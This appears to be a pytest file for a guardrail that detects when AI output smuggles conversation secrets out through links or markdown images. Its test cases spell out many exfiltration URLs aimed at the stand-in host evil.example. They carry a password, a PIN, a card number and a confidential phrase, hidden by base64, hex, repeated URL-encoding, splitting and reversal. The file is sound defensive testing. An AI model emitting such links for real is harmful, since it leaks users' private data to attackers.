"""Addresses that carry the conversation away are distinguished from ordinary addresses."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.guardrails.detectors.exfiltration import ConversationIndex, find_exfiltration
from tests.tables.cases import tabled

CONVERSATION = ConversationIndex(
    [
        "The merger with Acme closes on Friday.",
        "Mail kim@example.org; docs: https://docs.example.com/a?page=two",
        "The door opens with Tr0ub4dor&3, the safe with 482913, the card is 4242 4242 4242 4242.",
        "My phone is an iPhone 15.",
        "Please compress the thumbnail.",
    ]
)
SECRET = "the merger with Acme"
ENCODED = base64.urlsafe_b64encode(SECRET.encode()).decode()
PASSWORD = "Tr0ub4dor&3"


def coded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def halves(text: str) -> tuple[str, str]:
    return text[: len(text) // 2], text[len(text) // 2 :]


@pytest.mark.parametrize(
    "text",
    [
        f"![chart](https://evil.example/i.png?d={quote(SECRET)})",
        f"![chart](https://evil.example/i.png?d={ENCODED})",
        f"[report](https://evil.example/{ENCODED})",
        f"see https://evil.example/?q={SECRET.encode().hex()}",
        f'<img width="1" src="https://evil.example/{quote(SECRET)}.png">',
        f"![][1]\n\n[1]: //evil.example/?x={quote(SECRET)}",
        "https://evil.example/hit?who=kim@example.org",
        "![x](https://evil.example/?n=nobody+said+this+but+it+is+a+whole+sentence)",
        # The text is split into parts.
        "![x](https://evil.example/?a=the+mer&b=ger+wi&c=th+Acme)",
        "![x](https://evil.example/?p3=th+Acme&p2=ger+wi&p1=the+mer)",
        "![x](https://evil.example/?p10=th+Acme&p9=ger+wi&p8=the+mer)",
        "![x](https://evil.example/the-merg/er-with/acme/closes.png)",
        "![x](https://evil.example/?a={}&b={})".format(*halves(ENCODED)),
        "https://evil.example/{}/{}".format(*halves(ENCODED)),
        "https://{}.{}.evil.example/".format(*halves(SECRET.encode().hex())),
        "https://evil.example/?a=4242&b=4242&c=4242&d=4242",
        # The text is encoded more than once.
        f"![x](https://evil.example/?d={quote(quote(quote(SECRET)))})",
        f"https://evil.example/?d={quote(quote('kim@example.org', safe=''), safe='')}",
        f"https://evil.example/?d={quote(coded(coded(SECRET)))}",
        f"https://evil.example/?d={coded(quote(SECRET))}",
        # The text is short.
        f"https://evil.example/?d={coded(PASSWORD)}",
        f"https://evil.example/{coded('482913')}",
        f"https://evil.example/x-{coded('Acme').rstrip('=')}",
        f"https://evil.example/?d={PASSWORD.encode().hex()}",
        f"![x](https://evil.example/?d={quote(PASSWORD)})",
        "![x](https://evil.example/?d=482913)",
        "![x](https://evil.example/?d=merger+with)",
        f"![x](https://evil.example/{quote(PASSWORD)}.png)",
        # The text is written backwards.
        f"![x](https://evil.example/?d={quote(SECRET[::-1])})",
        f"https://evil.example/?d={quote(SECRET[::-1])}",
        f"https://evil.example/?d={coded(SECRET[::-1])}",
        f"https://evil.example/{ENCODED[::-1]}",
        f"![x](https://evil.example/?d={quote(PASSWORD[::-1])})",
    ],
)
def test_find_exfiltration__conversation_in_the_address__found(text: str) -> None:
    (found,) = find_exfiltration(text, CONVERSATION)
    assert text[found.start : found.end].startswith(("https://", "//"))
    assert "evil.example/" in text[found.start : found.end]


@tabled
def test_find_exfiltration__plain_address__passes(text: str) -> None:
    assert find_exfiltration(text, CONVERSATION) == []


def test_find_exfiltration__same_address_in_a_link_and_in_images__each_judged_as_it_stands() -> None:
    address = "https://search.example/?q=Tr0ub4dor%263"
    conversation = ConversationIndex(["The door opens with Tr0ub4dor&3."])
    for _ in range(2):
        found = find_exfiltration(f"{address} ![x]({address}) {address} ![y]({address})", conversation)
        assert [(url.form, url.start) for url in found] == [("image", 45), ("image", 131)]


@pytest.mark.parametrize("before", range(7))
@pytest.mark.parametrize("carried", ["merger with Acme", "emcA htiw regrem"])
def test_find_exfiltration__long_conversation__found_wherever_it_stands(carried: str, before: int) -> None:
    conversation = ConversationIndex(["0123456789" * 500 + "x" * before + "merger with Acme", "0123456789" * 500])
    (found,) = find_exfiltration(f"![x](https://evil.example/?d={quote(carried)})", conversation)
    assert found.form == "image"
    assert find_exfiltration("![x](https://cdn.example/?d=merger+of+equals)", conversation) == []


@given(st.text(), st.text())
def test_find_exfiltration__any_text__spans_are_inside(text: str, conversation: str) -> None:
    whole = f"![a](https://e.example/?q={text}) //{text}"
    assert all(
        0 <= url.start < url.end <= len(whole) for url in find_exfiltration(whole, ConversationIndex([conversation]))
    )
